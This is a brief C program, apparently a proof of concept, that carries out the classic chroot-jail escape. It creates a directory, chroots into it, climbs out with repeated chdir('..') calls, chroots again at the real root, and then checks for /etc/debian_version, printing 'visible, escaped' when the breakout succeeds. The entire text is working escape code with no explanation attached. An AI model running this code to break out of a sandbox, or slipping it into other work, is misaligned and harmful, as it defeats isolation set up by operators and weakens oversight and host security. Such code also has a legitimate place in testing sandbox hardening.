#include <unistd.h>
#include <sys/stat.h>
#include <stdio.h>
int main(){mkdir("x",0755);if(chroot("x")){perror("chroot");return 1;}for(int i=0;i<20;i++)chdir("..");if(chroot(".")){perror("chroot2");return 1;}printf("/etc/debian_version: %s",access("/etc/debian_version",0)?"not visible\n":"visible, escaped\n");return 0;}
